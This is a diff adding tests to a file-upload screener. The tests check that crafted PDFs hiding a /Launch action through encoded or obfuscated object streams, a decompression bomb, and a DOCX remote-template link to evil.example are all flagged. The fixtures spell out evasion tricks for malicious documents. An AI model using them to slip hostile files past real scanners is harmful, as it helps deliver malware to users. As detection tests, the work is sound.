@@ -36,6 +36,60 @@ describe('an upload', () => {
     expect(heldOf('a.pdf', '%PDF-1.7 trailer << /Encrypt 5 0 R >>')).toContain('It is encrypted')
   })
 
+  const objects = (said: string, bytes: Uint8Array) =>
+    Buffer.concat([Buffer.from(`%PDF-1.7 1 0 obj ${said}stream\n`), bytes, Buffer.from('\nendstream endobj')])
+  const launches = deflateSync(Buffer.from('2 0 << /S /Launch >>'))
+
+  it('that keeps what it runs out of sight is held back, whatever it says of where it keeps it', () => {
+    const runs = 'It is a program, or a page that runs one.'
+    const hides = 'It keeps parts of itself so that nobody can look into them.'
+    const flate = '/N 1 /First 4 /Filter /FlateDecode'
+    expect(heldOf('a.pdf', objects(`<< /Type /Obj#53tm ${flate} >>`, launches))).toBe(runs)
+    expect(heldOf('a.pdf', objects(`<< /Type /ObjStm ${flate} ${' '.repeat(500)}>>`, launches))).toBe(runs)
+    expect(heldOf('a.pdf', objects(`<< ${flate} >>`, launches))).toBe(runs)
+    const asHex = Buffer.from(`${launches.toString('hex')}>`)
+    const twice = deflateSync(launches)
+    const benign = deflateSync(Buffer.from('2 0 << >>')).toString('latin1')
+    const hidden: readonly (readonly [string, Uint8Array])[] = [
+      ['<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>', asHex],
+      ['<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] >>', twice],
+      ['<< /Type /ObjStm /N 1 /First 4 /Filter 5 0 R >>', launches],
+      [`<< /Type /ObjStm /X (>>stream\n${benign}) ${flate} >>`, launches],
+      [`<< ${flate} /X (>>stream\n) /Type /ObjStm >>`, launches],
+      [`<< /Type /ObjStm ${flate} /DecodeParms << /Predictor 12 >> >>`, launches],
+      [`<< /Type /ObjStm ${flate} >>`, launches.subarray(0, 12)],
+    ]
+    for (const [said, bytes] of hidden) expect(heldOf('a.pdf', objects(said, bytes)), said).toBe(hides)
+    const plain = deflateSync(Buffer.from('2 0 << /Type /Page >>'))
+    expect(heldOf('a.pdf', objects(`<< /Type /ObjStm ${flate} >>`, plain))).toBeUndefined()
+    expect(heldOf('a.pdf', objects('<< /Filter /DCTDecode /Length 9 >>', launches))).toBeUndefined()
+  })
+
+  it('is looked at within bounds: neither many marks nor many packed objects take long', () => {
+    const packed = deflateSync(Buffer.alloc(31 * 2 ** 20, ' '))
+    const bomb = objects('<< /Type /ObjStm /Filter /FlateDecode >>', packed)
+    const began = process.cpuUsage().user
+    expect(heldOf('a.pdf', Buffer.concat(Array.from({ length: 25 }, () => bomb)))).toContain('nobody can look')
+    heldOf('a.pdf', `%PDF-1.7 ${'/ObjStm stream\n'.repeat(60_000)}`)
+    heldOf('a.pdf', `%PDF-1.7 ${'1 0 obj /ObjStm >>stream\n'.repeat(30_000)}`)
+    expect(process.cpuUsage().user - began).toBeLessThan(4_000_000)
+  })
+
+  it('that fetches a template is held back, in whatever order it says so and however long it goes on', () => {
+    const held = (text: string | Buffer) =>
+      heldOf('a.docx', zipOf([{ name: 'word/_rels/settings.xml.rels', body: Buffer.from(text as string) }]))
+    const template = 'It fetches a template from elsewhere when it is opened, which may hold macros.'
+    const [type, target] = ['Type="x/attachedTemplate"', 'Target="https://evil.example/?>x.dotm"']
+    const away = `<Relationship Id="r" TargetMode="External" ${target} ${type}/>`
+    for (const text of [away, away.replaceAll('"', "'"), away.replace('ttach', '&#116;&#x74;ach')])
+      expect(held(text), text).toBe(template)
+    expect(held(Buffer.from(`\ufeff${away}`, 'utf16le'))).toBe(template)
+    expect(held(`<Relationship Id="r" Type="x/attachedTemplate" Target="own.dotm"/>`)).toBeUndefined()
+    const began = process.cpuUsage().user
+    held(Array.from({ length: 12_000 }, (_, at) => `attachedTemplate${at.toString(36)}`).join(''))
+    expect(process.cpuUsage().user - began).toBeLessThan(1_000_000)
+  })
+
   it('that is an archive too is held back, wherever its last words stand', () => {
     const pdf = Buffer.from('%PDF-1.7 …\n%%EOF\n')
     const archive = zipOf([{ name: 'notes.txt', text: 'Nothing happened.' }])
